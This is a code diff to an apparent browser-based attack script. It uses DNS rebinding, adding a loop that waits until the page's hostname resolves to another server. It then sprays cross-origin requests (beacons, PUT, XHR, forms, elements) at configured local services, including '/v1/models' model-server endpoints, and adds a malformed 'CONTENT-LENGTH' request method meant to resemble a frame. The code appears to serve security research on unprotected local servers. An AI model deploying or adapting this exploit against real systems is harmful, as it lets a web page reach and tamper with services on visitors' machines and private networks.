@@ -24,7 +24,7 @@ const body = answer => answer.type === 'opaque' ? undefined : answer.text().then
 
 // at is an address with the name of the attempt, so that a server without protection can say
 // which attempts have arrived.
-const at = (base, path, how) => base + path + '?how=' + encodeURIComponent(how);
+const at = (base, path, how) => base + path + (path.includes('?') ? '&' : '?') + 'how=' + encodeURIComponent(how);
 
 function element(name, attributes, wait = ['load', 'error']) {
   return new Promise(done => {
@@ -61,6 +61,9 @@ function fetches(base, path, what, text) {
   all.push(within(beacon, async () => { navigator.sendBeacon(at(base, path, beacon), new Blob([text], {type: 'text/plain'})); }));
   const put = `fetch PUT ${what}`;
   all.push(within(put, async () => body(await fetch(at(base, path, put), {method: 'PUT', body: text}))));
+  // The line of the request begins like a frame.
+  const header = `fetch CONTENT-LENGTH ${what}`;
+  all.push(within(header, async () => body(await fetch(at(base, path, header), {method: 'CONTENT-LENGTH', body: text}))));
   const old = `XHR ${what}`;
   all.push(within(old, () => new Promise((done, fail) => {
     const x = new XMLHttpRequest();
@@ -182,7 +185,8 @@ async function everything(base) {
   for (const {what, path, text} of CONFIG.texts) {
     await Promise.all([...fetches(base, path, what, text), ...forms(base, path, what, text)]);
   }
-  await Promise.all([...elements(base, '/v1/models'), ...elements(base, '/'), ...streams(base, '/')]);
+  const paths = CONFIG.paths[new URL(base).port] || ['/'];
+  await Promise.all([...paths.flatMap(path => elements(base, path)), ...streams(base, '/')]);
 }
 
 async function briefly(base) {
@@ -194,9 +198,21 @@ async function briefly(base) {
   }
 }
 
+// rebound waits until the name of this page's server leads to another server. A browser asks for the
+// address of a name again after a minute.
+async function rebound() {
+  for (;;) {
+    try {
+      if (await (await fetch('/mine', {cache: 'no-store'})).text() !== 'mine') return;
+    } catch { return; } // the other server does not speak HTTP
+    await sleep(500);
+  }
+}
+
 async function attack() {
-  if (CONFIG.rebind) { // from now on the name of this page's server leads to another
+  if (CONFIG.rebind) {
     await fetch(CONFIG.rebind, {method: 'POST', mode: 'no-cors'});
+    await rebound();
   }
   await Promise.all(CONFIG.bases.map(everything));
   await Promise.all(CONFIG.others.map(briefly));
